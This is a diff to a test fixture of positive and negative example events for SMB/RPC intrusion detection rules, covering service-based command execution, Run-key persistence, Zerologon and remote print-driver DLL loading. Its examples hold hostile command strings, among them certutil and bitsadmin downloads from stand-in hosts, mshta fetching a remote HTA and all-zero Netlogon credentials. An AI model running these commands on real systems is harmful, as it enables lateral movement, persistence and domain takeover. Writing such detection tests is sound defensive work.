@@ -30,8 +30,30 @@ const EXAMPLES: Record<string, { pos: SmbEvent[]; neg: SmbEvent[] }> = {
     neg: [rpc('svcctl', 'ControlService'), rpc('svcctl', 'QueryServiceStatus')],
   },
   'SVC-SHELL-COMMAND': {
-    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: CMD_SMBEXEC }), rpc('svcctl', 'ChangeServiceConfigW', { binary_path: 'powershell -enc AAAA' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Windows\\System32\\cmd.exe /c whoami' })],
-    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: '%SystemRoot%\\PSEXESVC.exe' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Program Files\\cmdline tools\\agent.exe' })],
+    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: CMD_SMBEXEC }), rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Windows\\System32\\cmd.exe /c whoami' })],
+    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: '%SystemRoot%\\PSEXESVC.exe' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Program Files\\cmdline tools\\agent.exe' }),
+      rpc('svcctl', 'ChangeServiceConfigW', { binary_path: 'powershell -enc AAAA' })],
+  },
+  // each interpreter with its own technique (every one was T1059.003, cmd: found in review)
+  'SVC-POWERSHELL-COMMAND': {
+    pos: [rpc('svcctl', 'ChangeServiceConfigW', { binary_path: 'powershell -enc AAAA' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'powershell.exe -c Reset-ComputerMachinePassword' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'pwsh -File x.ps1' })],
+    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Windows\\System32\\cmd.exe /c whoami' }), rpc('svcctl', 'StartServiceW', { binary_path: 'powershell -enc AAAA' })],
+  },
+  'SVC-SCRIPT-HOST-COMMAND': {
+    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: 'wscript.exe C:\\Temp\\a.vbs' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'cscript //nologo x.js' })],
+    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\scripts\\agent.exe' })],
+  },
+  'SVC-PROXY-COMMAND': {
+    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: 'rundll32.exe C:\\Temp\\x.dll,Run' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'mshta http://x/a.hta' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'msiexec /q /i \\\\h\\s\\x.msi' })],
+    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\Program Files\\rundll\\svc.exe' })],
+  },
+  'SVC-TRANSFER-COMMAND': {
+    pos: [rpc('svcctl', 'CreateServiceW', { binary_path: 'certutil -urlcache -f http://x/a.exe a.exe' }), rpc('svcctl', 'CreateServiceW', { binary_path: 'bitsadmin /transfer j http://x/a a' })],
+    neg: [rpc('svcctl', 'CreateServiceW', { binary_path: 'C:\\certs\\renew.exe' })],
+  },
+  'SVC-DISABLE': {
+    pos: [rpc('svcctl', 'ChangeServiceConfigW', { handle: '00'.repeat(20), start_type: 'DISABLED' })],
+    neg: [rpc('svcctl', 'ChangeServiceConfigW', { start_type: 'AUTO' }), rpc('svcctl', 'CreateServiceW', { start_type: 'DISABLED' })],
   },
   'PSEXEC-PSEXESVC': {
     pos: [put('ADMIN$', 'PSEXESVC.exe'), open('IPC$', 'PSEXESVC-WKS01-4242-stdin'), rpc('svcctl', 'CreateServiceW', { service_name: 'PSEXESVC', binary_path: '%SystemRoot%\\PSEXESVC.exe' })],
@@ -64,8 +86,9 @@ const EXAMPLES: Record<string, { pos: SmbEvent[]; neg: SmbEvent[] }> = {
   },
   'IMPACKET-ATEXEC': {
     pos: [rpc('ITaskSchedulerService', 'SchRpcRegisterTask', { task_path: '\\aBcDeFgH', command: 'cmd.exe', arguments: '/C whoami > %windir%\\Temp\\aBcDeFgH.tmp 2>&1' }),
-      rpc('atsvc', 'JobAdd', { command: 'cmd /c ipconfig > \\\\10.0.0.5\\share\\out.txt' })],
-    neg: [rpc('ITaskSchedulerService', 'SchRpcRegisterTask', { task_path: '\\Update', command: 'C:\\Program Files\\app\\update.exe', arguments: '--quiet' }),
+      rpc('ITaskSchedulerService', 'SchRpcRegisterTask', { command: 'cmd.exe', arguments: '/c ipconfig > \\\\10.0.0.5\\share\\out.txt' })],
+    // atexec.py uses the Task Scheduler; an AT job redirecting its output is ATSVC-JOB-ADD (review)
+    neg: [rpc('atsvc', 'JobAdd', { command: 'cmd /c ipconfig > \\\\10.0.0.5\\share\\out.txt' }),rpc('ITaskSchedulerService', 'SchRpcRegisterTask', { task_path: '\\Update', command: 'C:\\Program Files\\app\\update.exe', arguments: '--quiet' }),
       rpc('ITaskSchedulerService', 'SchRpcRun', { arguments: '/C whoami > %windir%\\Temp\\aBcDeFgH.tmp 2>&1' })],
   },
   'IMPACKET-OUTPUT-FILE': {
@@ -109,6 +132,22 @@ const EXAMPLES: Record<string, { pos: SmbEvent[]; neg: SmbEvent[] }> = {
       rpc('winreg', 'OpenKey', { key: 'SYSTEM\\CurrentControlSet\\Control\\Lsa' }), rpc('winreg', 'OpenKey', { key: 'SOFTWARE\\SAMSUNG' })],
   },
   'REG-SAVE-KEY': { pos: [rpc('winreg', 'SaveKey', { key: 'SOFTWARE' }), rpc('winreg', 'SaveKeyEx')], neg: [rpc('winreg', 'QueryValue')] },
+  'REG-RUN-KEY-WRITE': {
+    pos: [rpc('winreg', 'SetValue', { key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', value_name: 'Osa32' }), rpc('winreg', 'CreateKey', { key: 'Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce' }),
+      rpc('winreg', 'SetValue', { key: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run' })],
+    neg: [rpc('winreg', 'SetValue', { key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunTime' }), rpc('winreg', 'OpenKey', { key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' }), rpc('winreg', 'SetValue')],
+  },
+  ZEROLOGON: {
+    pos: [rpc('rpc_netlogon', 'NetrServerAuthenticate3', { client_credential: '0000000000000000', negotiate_flags: '0x212fffff' }, { share: null, path: null }),
+      rpc('rpc_netlogon', 'NetrServerPasswordSet2', { authenticator_credential: '0000000000000000', new_password: 'all zeros' }, { share: null, path: null }),
+      rpc('rpc_netlogon', 'NetrServerPasswordSet2', { authenticator_credential: '01edd22d7e4efce8', new_password: 'all zeros' })],
+    neg: [rpc('rpc_netlogon', 'NetrServerAuthenticate3', { client_credential: '8a1b2c3d4e5f6071' }), rpc('rpc_netlogon', 'NetrServerPasswordSet2', { authenticator_credential: '01edd22d7e4efce8', new_password: 'set' }),
+      rpc('rpc_netlogon', 'NetrServerReqChallenge', { client_challenge: '0000000000000000' })],
+  },
+  'PRINT-DRIVER-REMOTE-DLL': {
+    pos: [rpc('spoolss', 'AddPrinterDriverEx', { data_file: '\\\\ws02.cylera.lab\\security\\mimilib.dll' }), rpc('spoolss', 'RpcAddPrinterDriverEx', { config_file: '\\\\10.0.0.5\\share\\evil.dll' })],
+    neg: [rpc('spoolss', 'AddPrinterDriverEx', { driver_path: 'C:\\Windows\\System32\\spool\\drivers\\x64\\3\\unidrv.dll' }), rpc('spoolss', 'AddMonitor', { dll: '\\\\h\\s\\m.dll' })],
+  },
   'REG-REMOTE-WRITE': { pos: [rpc('winreg', 'SetValue'), rpc('winreg', 'CreateKey', { key: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run' })], neg: [rpc('winreg', 'OpenKey'), rpc('winreg', 'EnumKey')] },
   'DISCOVERY-NETWORK-CONFIG': { pos: [rpc('srvsvc', 'NetTransportEnum'), rpc('wkssvc', 'NetWkstaTransportEnum')], neg: [rpc('srvsvc', 'NetTransportAdd')] },
   'DISCOVERY-REMOTE-SYSTEM': { pos: [rpc('srvsvc', 'NetSrvGetInfo'), rpc('wkssvc', 'NetWkstaGetInfo')], neg: [rpc('srvsvc', 'NetSrvSetInfo')] },
